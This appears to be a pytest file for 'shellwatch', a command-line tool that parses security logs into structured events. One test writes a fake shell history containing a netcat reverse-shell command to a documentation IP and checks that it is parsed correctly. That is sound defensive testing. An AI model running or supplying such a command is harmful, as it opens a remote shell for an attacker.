"""The command line, run as a user runs it: `shellwatch scan`, `events`, `formats`, `schema`."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import orjson
import pytest
from typer.testing import CliRunner

from shellwatch import schema
from shellwatch.cli import app, sample_dir
from shellwatch.store.db import FileStat, Store, StoredEvent, StoredParseError, sqlite_url
from tests.conftest import ROOT

runner = CliRunner()


def test_scan_sample_stores_events_file_stats_and_a_finished_run(tmp_path: Path) -> None:
    db = tmp_path / "sw.db"
    result = runner.invoke(
        app, ["scan", "--sample", "--db", str(db), "--dead-letter", str(tmp_path / "dl.jsonl")]
    )
    assert result.exit_code == 0, result.output
    assert "0 errors" in result.output
    store = Store(sqlite_url(str(db)))
    try:
        (run,) = store.scan_runs()
        assert run.status == "done"
        assert run.errors == 0
        assert run.events == store.count(StoredEvent, run.id) > 100
        assert (
            store.count(FileStat, run.id)
            == run.files
            == len([path for path in sample_dir().rglob("*") if path.is_file()])
        )
        formats = {event["shellwatch.log.format"] for event in store.events(run.id)}
        assert {"auditd", "syslog", "shell_history", "winxml", "zeek"} <= formats
    finally:
        store.close()
    assert not (tmp_path / "dl.jsonl").exists(), "a clean scan writes no dead-letter file"


def test_scan_reports_bad_records_per_file_and_dead_letters_them(tmp_path: Path) -> None:
    log = tmp_path / "alice_history.gz"
    log.write_bytes(b"\x1f\x8b\x08\x00broken gzip")
    dead = tmp_path / "dl.jsonl"
    db = tmp_path / "sw.db"
    result = runner.invoke(app, ["scan", str(log), "--db", str(db), "--dead-letter", str(dead)])
    assert result.exit_code == 0, result.output
    assert "1 errors" in result.output
    (letter,) = [json.loads(line) for line in dead.read_text().splitlines()]
    assert letter["path"] == str(log)
    store = Store(sqlite_url(str(db)))
    try:
        assert store.count(StoredParseError) == 1
    finally:
        store.close()


def test_events_writes_ecs_ndjson_to_a_file(tmp_path: Path) -> None:
    out = tmp_path / "events.ndjson"
    result = runner.invoke(app, ["events", "--sample", "-o", str(out), "--dead-letter", str(tmp_path / "dl")])
    assert result.exit_code == 0, result.output
    lines = out.read_bytes().splitlines()
    assert len(lines) > 100
    for line in lines:
        event = orjson.loads(line)
        assert schema.unknown_fields(event) == []
        assert schema.invalid_values(event) == []
        assert event["log.file.path"]
    assert "events from" in result.output


def test_events_to_stdout_in_a_real_process(tmp_path: Path) -> None:
    history = tmp_path / "home" / "bob" / ".bash_history"
    history.parent.mkdir(parents=True)
    history.write_text("#1700000000\nnc -e /bin/sh 203.0.113.9 4444\n")
    completed = subprocess.run(
        [sys.executable, "-m", "shellwatch", "events", str(history), "--host", "db02"],
        capture_output=True,
        check=True,
        cwd=tmp_path,
    )
    (event,) = [orjson.loads(line) for line in completed.stdout.splitlines()]
    assert event["process.command_line"] == "nc -e /bin/sh 203.0.113.9 4444"
    assert (event["user.name"], event["host.name"]) == ("bob", "db02")
    assert event["@timestamp"] == "2023-11-14T22:13:20.000000Z"


def test_unknown_format_name_is_a_clear_error(tmp_path: Path) -> None:
    completed = subprocess.run(
        [sys.executable, "-m", "shellwatch", "events", "-f", "nope", str(tmp_path)],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        check=False,
    )
    assert completed.returncode == 2
    assert "no reader named 'nope'" in completed.stderr


def test_missing_input_is_a_clear_error(tmp_path: Path) -> None:
    completed = subprocess.run(
        [sys.executable, "-m", "shellwatch", "scan", str(tmp_path / "nope.log")],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        check=False,
    )
    assert completed.returncode == 2
    assert "nope.log: no such file or directory" in completed.stderr


def test_formats_lists_every_reader() -> None:
    result = runner.invoke(app, ["formats"])
    assert result.exit_code == 0
    for name in ("auditd", "evtx", "syslog", "shell_history", "zeek"):
        assert name in result.output


@pytest.mark.parametrize("doc", ["docs/schema.md"])
def test_schema_doc_is_generated_from_the_schema_module(doc: str) -> None:
    assert (ROOT / doc).read_text() == schema.markdown(), "run `make docs` to regenerate docs/schema.md"
